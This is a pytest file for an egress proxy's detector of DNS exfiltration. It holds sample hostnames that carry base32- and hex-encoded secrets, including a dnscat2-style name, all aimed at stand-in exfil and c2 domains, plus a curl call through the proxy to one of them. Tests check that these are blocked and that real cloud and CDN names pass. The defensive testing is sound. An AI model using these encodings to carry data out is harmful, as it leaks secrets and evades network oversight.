"""egress.exfil: names that carry data out in their labels, and real names that must pass."""

import base64
import hashlib

import pytest

from conftest import run_curl

from egress import exfil
from egress.policy import Policy

# Encoder output as it would leave: each must be refused.
_SECRET = b"AKIAIOSFODNN7EXAMPLE:wJalrXUtnFEMI/K7MDENG"
EXFIL = [
    ("JBSWY3DPEHPK3PXP.exfil.example.com".lower(), "base32"),  # the example ("Hello!" + 0xdeadbeef)
    ("a" * 0 + hashlib.sha256(b"x").hexdigest()[:60] + ".exfil.example.com", "hex"),  # a 60-character hex label
    (hashlib.sha1(_SECRET).hexdigest() + ".t.example.net", "hex"),  # 40 hex: xxd -p | head -c 40
    (base64.b32encode(_SECRET[:20]).decode().rstrip("=").lower() + ".x.example.org", "base32"),
    # dnscat2: hex of its packet, one label of 63 and the rest
    ("dnscat." + hashlib.sha512(_SECRET).hexdigest()[:63] + ".c2.example.com", "hex"),
    # base64url lowered by the resolver path (case is gone): letters and digits, long
    (base64.urlsafe_b64encode(hashlib.sha512(_SECRET).digest()).decode()[:50].lower().replace("-", "x").replace("_", "y")
     + ".e.example.com", "random"),
    # split into labels of 12: no one run is long, together they are
    (".".join(base64.b32encode(hashlib.sha256(_SECRET).digest()).decode().lower()[i:i + 12] for i in (0, 12, 24, 36))
     + ".s.example.com", "spread"),
]

# Real names of CDNs, clouds, package mirrors and CI services: each must pass.
REAL = [
    "d111111abcdef8.cloudfront.net",  # CloudFront distribution
    "d3ozbcq8bq3bkn.cloudfront.net",
    "main.d1a2b3c4d5e6f7.amplifyapp.com",
    "my-bucket-2024.s3.amazonaws.com",  # S3, path and virtual-host styles
    "my-bucket.s3.us-east-1.amazonaws.com",
    "s3.dualstack.eu-west-1.amazonaws.com",
    "abcdef1234.execute-api.us-east-1.amazonaws.com",  # API Gateway
    "d-abcdef1234.execute-api.eu-central-1.amazonaws.com",
    "abcdefghijklmnopqrstuvwxyz012345.lambda-url.us-east-1.on.aws",  # Lambda function URL (32)
    "x4s2ofmt0tqcj3s0v8d9lxgbpq5ybn9e.lambda-url.eu-west-1.on.aws",
    "0123456789abcdef0123456789abcdef.r2.cloudflarestorage.com",  # R2 account id (32 hex)
    "a3k7odshaiipe8-ats.iot.us-east-1.amazonaws.com",
    "vpce-0a1b2c3d4e5f6a7b8-abcdefgh.s3.us-east-1.vpce.amazonaws.com",
    "my-loadbalancer-1234567890.us-west-2.elb.amazonaws.com",
    "internal-my-alb-1234567890.eu-west-1.elb.amazonaws.com",
    "123456789012.dkr.ecr.us-east-1.amazonaws.com",
    "prod-us-east-1-starport-layer-bucket.s3.us-east-1.amazonaws.com",
    "myapp-h7gbcsd5dsh8fcd4.z01.azurefd.net",  # Azure Front Door
    "productionresultssa0.blob.core.windows.net",  # GitHub Actions results
    "pipelinesghubeus2.actions.githubusercontent.com",
    "objects.githubusercontent.com",
    "codeload.github.com",
    "abcdefghijklmnopqrst.supabase.co",
    "my-service-abc123xyz-uc.a.run.app",  # Cloud Run
    "r3---sn-4g5e6nsz.googlevideo.com",
    "storage.googleapis.com",
    "5f1a2b3c4d5e6f7a8b9c0d1e--my-site.netlify.app",  # Netlify deploy preview (24 hex)
    "my-project-git-feature-branch-name-my-team.vercel.app",
    "my-app-1a2b3c4d5e6f.herokuapp.com",
    "e1234.a.akamaiedge.net",
    "dualstack.n.sni.global.fastly.net",
    "production.cloudflare.docker.com",
    "registry-1.docker.io",
    "registry.npmjs.org",
    "files.pythonhosted.org",
    "deb.debian.org",
    "security.ubuntu.com",
    "mirrors.edge.kernel.org",
    "proxy.golang.org",
    "static.crates.io",
    "index.crates.io",
    "repo.maven.apache.org",
    "dl.google.com",
    "ghcr.io",
    "pkg-containers.githubusercontent.com",
    "sessionmanager.eu-west-1.amazonaws.com",
    "sts.amazonaws.com",
    "cognito-idp.ap-southeast-2.amazonaws.com",
    "xn--bcher-kva.example",
    "a1b2c3d4e5.execute-api.ap-northeast-1.amazonaws.com",
    "api.anthropic.com",
    "127.0.0.1",
    "localhost",
]


@pytest.mark.parametrize("name,kind", EXFIL)
def test_encoder_output_is_exfiltration(name, kind):
    why = exfil.shape(name)
    assert why is not None, name
    assert {"hex": "hex", "base32": "base32", "random": "random", "spread": "spread"}[kind] in why


@pytest.mark.parametrize("name", REAL)
def test_real_names_pass(name):
    assert exfil.shape(name) is None


# ---------------------------------------------------------------- the policy decision


def test_policy_refuses_exfiltration_in_every_mode():
    name = "jbswy3dpehpk3pxp.exfil.example.com"
    for mapping in ({"allow": ["example.org"]}, {"network": "all"}):
        decision = Policy.from_mapping(mapping).decide(name, 443)
        assert (decision.allowed, decision.reason) == (False, "exfiltration"), mapping
        assert "base32" in decision.detail


def test_an_allow_entry_passes_an_id_and_deny_still_wins():
    lambda_like = "jbswy3dpehpk3pxp.fn.example.com"
    assert Policy.from_mapping({"allow": ["fn.example.com"]}).decide(lambda_like, 443).allowed
    decision = Policy.from_mapping({"allow": ["fn.example.com"], "deny": ["example.com"]}).decide(lambda_like, 443)
    assert decision.reason == "denied"


def test_real_names_pass_network_all():
    policy = Policy.from_mapping({"network": "all"})
    for name in REAL:
        assert policy.decide(name, 443).allowed, name


# ---------------------------------------------------------------- through a real proxy


def test_proxy_refuses_exfiltration_under_network_all(proxy_factory, curl_path, tmp_path):
    proxy = proxy_factory('network = "all"\n', names=["jbswy3dpehpk3pxp.exfil.test"])
    result = run_curl(curl_path, proxy, "http://jbswy3dpehpk3pxp.exfil.test/", "-i", home=tmp_path)
    out = result.stdout.decode()
    assert " 403 " in out.splitlines()[0]
    assert "X-Egress-Blocked: jbswy3dpehpk3pxp.exfil.test; reason=exfiltration" in out
    assert "EGRESS_BLOCKED jbswy3dpehpk3pxp.exfil.test: the name looks like data smuggled out" in out
    events = proxy.wait_for_audit(lambda e: e["reason"] == "exfiltration")
    assert [e["decision"] for e in events if e["reason"] == "exfiltration"] == ["block"]
